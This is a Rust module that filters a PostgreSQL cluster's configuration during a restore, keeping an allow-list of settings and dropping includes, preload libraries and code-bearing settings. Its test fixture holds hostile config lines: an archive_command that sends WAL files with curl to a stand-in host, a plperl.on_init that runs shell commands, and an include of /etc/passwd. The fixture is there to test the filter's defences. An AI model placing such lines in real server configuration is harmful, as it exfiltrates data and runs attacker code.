//! The closed list of settings that a restored server takes over.

use std::collections::BTreeMap;

use super::line::{parse, render};

/// Settings that decide how the data read, or without which the server refuses the cluster or its log.
const KEPT: [&str; 41] = [
    // The log cannot be replayed with less, and slots and prepared transactions must fit.
    "max_connections",
    "max_locks_per_transaction",
    "max_pred_locks_per_transaction",
    "max_prepared_transactions",
    "max_replication_slots",
    "max_wal_senders",
    "max_worker_processes",
    "track_commit_timestamp",
    "wal_level",
    "wal_log_hints",
    // How values are read and written, and which objects are meant by a name.
    "array_nulls",
    "backslash_quote",
    "bytea_output",
    "check_function_bodies",
    "client_encoding",
    "createrole_self_grant",
    "datestyle",
    "default_table_access_method",
    "default_text_search_config",
    "default_toast_compression",
    "escape_string_warning",
    "extra_float_digits",
    "gin_fuzzy_search_limit",
    "icu_validation_level",
    "intervalstyle",
    "lc_monetary",
    "lc_numeric",
    "lc_time",
    "lo_compat_privileges",
    "password_encryption",
    "plpgsql.extra_errors",
    "plpgsql.extra_warnings",
    "plpgsql.variable_conflict",
    "quote_all_identifiers",
    "row_security",
    "search_path",
    "standard_conforming_strings",
    "synchronize_seqscans",
    "timezone",
    "transform_null_equals",
    "xmlbinary",
];

/// Settings of memory, and the most of each that is taken over, in bytes. The machine is not the lost one.
const CAPPED: [(&str, u64); 3] =
    [("shared_buffers", 256 << 20), ("work_mem", 64 << 20), ("maintenance_work_mem", 512 << 20)];
/// The unit of a value without one, in bytes, for each of [`CAPPED`]. Source: `guc_tables.c`.
const UNITS: [u64; 3] = [8 << 10, 1 << 10, 1 << 10];

/// The prefixes of settings that hold code, which an extension runs when it is loaded.
const CODE: [&str; 6] = ["plperl", "plpython", "pltcl", "plv8", "pljava", "plr"];

/// Why a setting was not taken over.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
pub enum Why {
    /// It names another file to read.
    Includes,
    /// It loads code into the server, or holds code.
    Loads,
    /// Its value cannot be read, or the server of this machine refuses it.
    Refused,
    /// It is not on the list.
    NotListed,
}

/// A setting that was not taken over.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct LeftOut {
    /// Its name. The value is not kept: it may hold a password.
    pub name: String,
    /// Why.
    pub why: Why,
}

/// The settings of a foreign cluster: those that a restored server takes over, and the others.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct ForeignSettings {
    /// Taken over, by name.
    pub kept: BTreeMap<String, String>,
    /// Not taken over, ordered by name, each once.
    pub left_out: Vec<LeftOut>,
}

impl ForeignSettings {
    /// Reads configuration files, in the order in which the server reads them: of two values the last counts.
    /// `libraries` are the preload libraries that the user named; the cluster gets those of them that it asks for.
    pub fn read<'a>(texts: impl IntoIterator<Item = &'a str>, libraries: &[String]) -> Self {
        let (mut kept, mut left_out) = (BTreeMap::new(), BTreeMap::new());
        for (name, value) in texts.into_iter().flat_map(str::lines).filter_map(parse) {
            match judge(&name, &value, libraries) {
                Ok(value) => drop(kept.insert(name, value)),
                Err(why) => drop(left_out.insert(name, why)),
            }
        }
        let left_out = left_out.into_iter().map(|(name, why)| LeftOut { name, why }).collect();
        Self { kept, left_out }
    }

    /// The configuration file of the restored server.
    pub fn render(&self) -> String {
        self.kept.iter().filter_map(|(name, value)| render(name, value)).collect()
    }

    /// Takes back a setting that the server refuses.
    pub(super) fn refuse(&mut self, name: &str) -> bool {
        let was_kept = self.kept.remove(name).is_some();
        if was_kept {
            self.left_out.push(LeftOut { name: name.to_owned(), why: Why::Refused });
            self.left_out.sort_by(|one, other| one.name.cmp(&other.name));
        }
        was_kept
    }

    /// What was done, in one sentence for the record.
    pub fn describe(&self) -> String {
        let names = |why: &[Why]| {
            let of_these = self.left_out.iter().filter(|one| why.contains(&one.why));
            of_these.map(|one| one.name.as_str()).collect::<Vec<_>>().join(", ")
        };
        let mut text = format!("the server takes over {} of the cluster's own settings", self.kept.len());
        let (code, other) = (names(&[Why::Includes, Why::Loads]), names(&[Why::NotListed, Why::Refused]));
        for (what, names) in [("no code and no other file", code), ("and none of", other)] {
            if !names.is_empty() {
                text.extend(["; ", what, ": ", &names]);
            }
        }
        text
    }
}

/// The value to take over.
fn judge(name: &str, value: &str, libraries: &[String]) -> Result<String, Why> {
    if matches!(name, "include" | "include_dir" | "include_if_exists") {
        return Err(Why::Includes);
    }
    if name == "shared_preload_libraries" {
        let wanted = value.split(',').map(|one| one.trim().trim_matches('"'));
        let named = wanted.filter(|one| libraries.iter().any(|library| library == one));
        let named = named.collect::<Vec<_>>().join(", ");
        return if named.is_empty() { Err(Why::Loads) } else { Ok(named) };
    }
    if name.ends_with("_preload_libraries")
        || name.ends_with("_library")
        || CODE.iter().any(|one| is_of(name, one))
    {
        return Err(Why::Loads);
    }
    if render(name, value).is_none() {
        return Err(Why::Refused);
    }
    if let Some(at) = CAPPED.iter().position(|(capped, _)| *capped == name) {
        let (most, unit) = (CAPPED[at].1, UNITS[at]);
        let bytes = bytes(value, unit).ok_or(Why::Refused)?;
        return Ok(if bytes > most { format!("{}kB", most >> 10) } else { value.to_owned() });
    }
    // A name with a dot is a variable of an application or of an extension that is not loaded: a value, no code.
    let is_application = name.contains('.') && !name.starts_with("plpgsql.");
    if KEPT.contains(&name) || is_application { Ok(value.to_owned()) } else { Err(Why::NotListed) }
}

fn is_of(name: &str, language: &str) -> bool {
    name.split_once('.').is_some_and(|(prefix, _)| prefix.starts_with(language))
}

/// A size as the server reads it: a number, and B, kB, MB, GB or TB.
fn bytes(value: &str, unit: u64) -> Option<u64> {
    let value = value.trim();
    let end = value.find(|c: char| !c.is_ascii_digit()).unwrap_or(value.len());
    let number: u64 = value[..end].parse().ok()?;
    let unit = match value[end..].trim() {
        "" => unit,
        "B" => 1,
        "kB" => 1 << 10,
        "MB" => 1 << 20,
        "GB" => 1 << 30,
        "TB" => 1 << 40,
        _ => return None,
    };
    number.checked_mul(unit)
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    const HOSTILE: &str = "\
        max_connections = 300\n\
        shared_buffers = 64GB\n\
        work_mem = '4MB'\n\
        archive_command = 'curl -d @%p http://example.org'\n\
        restore_command = 'touch /tmp/owned'\n\
        include '/etc/passwd'\n\
        include_dir 'conf.d'\n\
        shared_preload_libraries = 'pg_stat_statements, evil'\n\
        session_preload_libraries = 'evil'\n\
        data_directory = '/var/lib/postgresql/15/main'\n\
        plperl.on_init = 'system q(id)'\n\
        zero_damaged_pages = on\n\
        app.tenant = 'o''neill'\n\
        timezone = 'Europe/Berlin'\n\
        max_connections = 200\n";

    #[test]
    fn a_hostile_file_leaves_nothing_that_runs_or_reads() {
        let settings = ForeignSettings::read([HOSTILE, "work_mem = 99GB # ALTER SYSTEM"], &[]);
        assert_eq!(
            settings.render(),
            "app.tenant = 'o''neill'\nmax_connections = '200'\nshared_buffers = '262144kB'\n\
            timezone = 'Europe/Berlin'\nwork_mem = '65536kB'\n"
        );
        assert_eq!(
            settings.describe(),
            "the server takes over 5 of the cluster's own settings; no code and no other file: include, include_dir, \
            plperl.on_init, session_preload_libraries, shared_preload_libraries; and none of: archive_command, \
            data_directory, restore_command, zero_damaged_pages"
        );
    }

    #[test]
    fn only_libraries_that_the_user_named_are_loaded() {
        let named = ["pg_stat_statements".to_owned(), "timescaledb".to_owned()];
        let settings = ForeignSettings::read([HOSTILE], &named);
        assert_eq!(settings.kept["shared_preload_libraries"], "pg_stat_statements");
    }

    #[test]
    fn the_list_is_in_the_form_that_is_compared() {
        assert!(KEPT.iter().all(|name| *name == name.to_ascii_lowercase()));
    }

    proptest! {
        #[test]
        fn nothing_but_listed_names_comes_through(text in "(\\PC|\n|\r|'|=){0,200}") {
            let settings = ForeignSettings::read([text.as_str()], &[]);
            for line in settings.render().lines() {
                let (name, _) = parse(line).unwrap();
                let is_listed = KEPT.contains(&name.as_str())
                    || CAPPED.iter().any(|(capped, _)| *capped == name)
                    || name.contains('.');
                prop_assert!(is_listed, "{line}");
            }
        }

        #[test]
        fn a_listed_name_comes_through_unless_it_cannot_be_written(name in proptest::sample::select(KEPT.to_vec()), value in "[ -~]*") {
            let text = render(name, &value).unwrap();
            let settings = ForeignSettings::read([text.as_str()], &[]);
            prop_assert_eq!(settings.kept.get(name), Some(&value));
        }
    }
}
